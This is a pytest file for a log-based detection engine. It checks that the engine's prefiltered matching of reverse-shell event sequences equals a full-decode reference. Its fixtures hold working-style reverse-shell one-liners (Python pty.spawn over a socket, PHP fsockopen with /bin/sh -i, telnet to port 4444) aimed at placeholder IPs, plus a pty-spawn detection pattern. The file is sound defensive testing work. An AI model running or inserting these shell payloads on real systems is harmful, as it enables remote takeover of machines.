"""The line-rate levers (issue 23) change the cost, never the output: the fast path on the peers'
corpus (../shared/peers/gen_corpus.py, the issue's benchmark corpus, 3,000 events) and on lines made
to test a wildcard's ordered-parts anchor equals the reference that decodes every line and evaluates
every rule (BlockMatcher(prefilter=False))."""

from __future__ import annotations

import random
import re
import subprocess
import sys
from pathlib import Path

import msgspec
import pytest

from conftest import PATTERNS, ROOT
from shellsieve.cli import build
from shellsieve.compile.anchors import predicate_literals
from shellsieve.compile.ruleset import Ruleset
from shellsieve.model.expr import Op, Predicate
from test_diff_fastpath import assert_identical, spellings

GEN_CORPUS = ROOT.parent / "shared" / "peers" / "gen_corpus.py"


@pytest.fixture(scope="module")
def ruleset() -> Ruleset:
    return build([PATTERNS])[1]


def _events(i: int, args: list[str], parent: str) -> list[dict]:
    """A process start and its outbound connection: the reverse-shell sequence's two steps."""
    name, host, entity = args[0], {"id": "h1", "os": {"type": "linux"}}, f"{parent}-{i}"
    parent = parent.partition("-")[0]
    start = {"@timestamp": f"2026-11-22T08:00:{i:02d}.000Z",
             "event": {"kind": "event", "category": ["process"], "type": ["start"], "action": "exec"},
             "host": host,
             "process": {"name": name, "executable": f"/usr/bin/{name}", "command_line": " ".join(args),
                         "args": args, "args_count": len(args), "entity_id": entity,
                         "parent": {"name": parent, "executable": f"/usr/bin/{parent}"}},
             "user": {"name": "root", "id": "0"}}
    connect = {"@timestamp": f"2026-11-22T08:00:{i:02d}.500Z",
               "event": {"kind": "event", "category": ["network"], "type": ["start"],
                         "action": "connection_attempted"},
               "host": host, "process": {"name": name, "entity_id": entity},
               "destination": {"ip": "203.0.113.7", "port": 4444}}
    return [start, connect]


def test_ordered_parts_anchor_is_one_regex() -> None:
    lits = predicate_literals(Predicate("process.args", Op.WILDCARD, ("*import*pty*spawn*",), False))
    assert lits is not None and len(lits) == 1 and lits[0].ordered
    rx = re.compile(lits[0].regex, re.I)
    assert rx.search(b'"args":["-c","import os,pty;pty.spawn(\\"sh\\")"]')
    assert rx.search(b'"x":"IMPORT\\\\PTY\\"SPAWN"')  # escapes between the parts, any case
    assert not rx.search(b'"args":["-c","import sys; print(sys.version)"]')  # the best part alone
    assert not rx.search(b'"args":["spawn","pty","import"]')  # out of order
    # one literal part keeps the best-part anchor
    one = predicate_literals(Predicate("process.args", Op.WILDCARD, ("*socket*",), False))
    assert one is not None and not one[0].regex and one[0].text == b"socket"


def test_wildcard_parts_fast_path_equals_reference(ruleset: Ruleset) -> None:
    """Values where the parts lie apart, escaped, in another case, or where they would only match
    across two strings: the reverse-shell sequence's first step reads `*import*pty*spawn*`."""
    rng = random.Random(23)
    argv = [["python3", "-c", 'import os,pty,socket;s=socket.socket();s.connect(("1.2.3.4",1));pty.spawn("sh")'],
            ["python3", "-c", "IMPORT\tPTY\\\"SPAWN"],
            ["python3", "-c", "importptyspawn"],
            ["python3", "-c", "import é 𝔘 pty \u2028 spawn"],
            ["python3", "-c", "import sys", "pty", "spawn"],
            ["python3", "-c", "import subprocess;subprocess.call(['sh'])"],
            ["python3", "-c", "import sys; print(sys.version)"],
            ["php", "-r", '$s=fsockopen("10.1.1.1",80);exec("/bin/sh -i");'],
            ["php", "-r", '$s=fsockopen("example.com",80); fclose($s);']]
    lines = []
    for i, a in enumerate(argv):
        for parent in ("bash", "nginx"):
            for k in range(5):  # each spelling its own process: another cannot complete its sequence
                start, connect = _events(i, a, f"{parent}-{k}")
                lines += [spellings(start, rng)[k], msgspec.json.encode(connect)]
    alerts, _ = assert_identical(ruleset, lines)
    assert alerts >= 4


def test_number_bound_anchor_fast_path_equals_reference(ruleset: Ruleset) -> None:
    """`process.args_count >= 3` anchors on its key and value (compile/anchors.py _at_least): every
    JSON spelling of a count, as a number, a numeric string, a dotted key, or a nested key of the
    same name, gives the output decoding every line gives; a bare `telnet` is not decoded."""
    rng = random.Random(5)
    lines = []
    for i, count in enumerate([1, 2, 3, 4, 10, 3.0, 2.5, "3", " 1_0", "inf", -4, 0.3e1, 30e-1, 2e0]):
        for k in range(3):
            start, connect = _events(i * 3 + k, ["telnet", "10.0.0.1", "4444"], "bash")
            start["process"]["args_count"] = count
            lines += [spellings(start, rng)[k], msgspec.json.encode(connect)]
    for i, spelled in enumerate([b"0.3e1", b"1E1", b"2.5e+0", b"3", b"0"]):  # exponents as JSON writes them
        start, connect = _events(90 + i, ["telnet", "10.0.0.1", "4444"], "bash")
        start["process"]["args_count"] = 1
        lines += [msgspec.json.encode(start).replace(b'"args_count":1', b'"args_count":' + spelled),
                  msgspec.json.encode(connect)]
    alerts, _ = assert_identical(ruleset, lines)
    assert alerts >= 10
    bare = [msgspec.json.encode(_events(99 + k, ["telnet"], "bash")[0]) for k in range(50)]
    assert assert_identical(ruleset, bare)[1] == 0  # one argument: never a candidate
    assert predicate_literals(Predicate("process.args_count", Op.GE, (3,), True))[0].number  # type: ignore[index]
    assert predicate_literals(Predicate("process.args_count", Op.GE, (12,), True)) is None  # past the bound


@pytest.mark.skipif(not GEN_CORPUS.is_file(), reason="../shared/peers is not checked out")
def test_peers_corpus_fast_path_equals_reference(ruleset: Ruleset, tmp_path: Path) -> None:
    out = tmp_path / "corpus.ndjson"
    subprocess.run([sys.executable, str(GEN_CORPUS), str(out), "3000", "7"], check=True, capture_output=True)
    lines = out.read_bytes().splitlines()
    # the bench's shapes too: command lines written with `\u002f` escapes
    lines += [line.replace(b"/", b"\\u002f") for line in lines[:300]]
    alerts, decoded = assert_identical(ruleset, lines)
    assert alerts >= 10
    assert decoded < len(lines) // 3  # the anchors do skip most lines


def _web_line(rng: random.Random, i: int) -> dict:
    """A process start near a web server: its names and ids under their own keys or under others."""
    names = ["nginx", "apache2", "www-data", "33", "bash", "id", "curl", "php-fpm7.4", "sshd", "48"]
    pick = lambda: rng.choice(names)  # noqa: E731
    return {"@timestamp": f"2026-11-22T08:00:{i % 60:02d}.000Z",
            "event": {"kind": "event", "category": ["process"], "type": ["start"]},
            "host": {"name": pick(), "id": pick(), "os": {"type": "linux"}},
            "process": {"name": pick(), "executable": f"/{rng.choice(['usr/bin', 'tmp', 'var/www'])}/{pick()}",
                        "command_line": f"{pick()} {pick()}", "args": [pick(), pick()], "args_count": 2,
                        "parent": {"name": pick(), "executable": f"/usr/sbin/{pick()}", "id": pick()}},
            "user": {"name": pick(), "id": pick()}, "group": {"name": pick(), "id": pick()}}


def test_keyed_checks_skipped_once_their_rules_are_candidates(ruleset: Ruleset) -> None:
    """A keyed hit whose rules are candidates of its line already skips its key check: each line has
    the same candidate rules as with every key checked, and the output of the reference."""
    from shellsieve.run.match import BlockMatcher
    from shellsieve.run.stats import Stats

    rng = random.Random(23)
    lines = [msgspec.json.encode(_web_line(rng, i)) for i in range(600)]
    block = b"".join(x + b"\n" for x in lines)
    fast = BlockMatcher(ruleset, Stats())
    assert fast._keyed_rules  # the web-server rules' names and ids
    every = BlockMatcher(ruleset, Stats())
    every._keyed_rules = {}
    spans, checked = fast._candidate_spans(block), every._candidate_spans(block)
    assert spans is not None and checked is not None and spans.keys() == checked.keys()
    for start, (end, rules, pids, late) in spans.items():
        assert (end, rules, late) == checked[start][:2] + (checked[start][3],)
        assert pids is not None and pids >= checked[start][2]  # the skipped ids stay
    alerts, decoded = assert_identical(ruleset, lines)
    assert alerts >= 50 and decoded < len(lines)


def _hostile(line: bytes) -> list[bytes]:
    """A web-server event and its hostile variants: duplicate keys hiding a name or not, numbers out
    of range (read by a rule, or not), nesting past msgspec's limit where no rule reads, a rule's
    object of another shape, flat keys, bad UTF-8, an array."""
    body = line[:-1]
    deep = b"[" * 1100 + b"]" * 1100
    return [line, body + b',"process":{"name":"nc","parent":{"name":"nginx"}}}',
            b'{"process":{"name":"curl"},' + line[1:], body + b',"user":{"name":"www-data","id":"33"}}',
            body + b',"n":1e400}', body + b',"n":' + b"9" * 5000 + b"}",
            line.replace(b'"args_count":2', b'"args_count":1e400'),
            body + b',"x":' + deep + b"}", line.replace(b'"host":{', b'"host":"h","h":{'),
            body + b',"process.name":"whoami","user.name":"www-data"}', body + b',"b":"\xff"}',
            b"[" + line + b"]", body + b',"process":null}', body + b',"process":{"parent":"nginx"}}']


def test_one_decode_reads_what_the_typed_view_reads(ruleset: Ruleset) -> None:
    """Where the rules read leaves only, the untyped decode is the view (match.py `_decoded`): the
    output and every counter equal the typed view's, on hostile lines too, on both paths."""
    from shellsieve.run.match import BlockMatcher
    from shellsieve.run.stats import Stats

    rng = random.Random(7)
    lines = [h for i in range(40) for h in _hostile(msgspec.json.encode(_web_line(rng, i)))]
    lines += [s for i in range(20) for s in spellings(_web_line(rng, i), rng)]
    block = b"".join(x + b"\n" for x in lines)
    for prefilter in (True, False):
        got = []
        for plain_view in (True, False):
            stats = Stats()
            matcher = BlockMatcher(ruleset, stats, prefilter=prefilter)
            assert matcher._plain_view  # the shipped rules read leaves only
            matcher._plain_view = plain_view
            out = matcher.process(block)
            snap = {k: v for k, v in stats.snapshot().items() if k not in ("events_per_s", "uptime_s")}
            got.append((out, snap, stats.malformed))
        assert got[0] == got[1]
    assert got[0][1]["alerts"] >= 40, got[0][1]
    assert got[0][2]["duplicate_key"] >= 40 and got[0][2]["out_of_range"] >= 40, got[0][2]
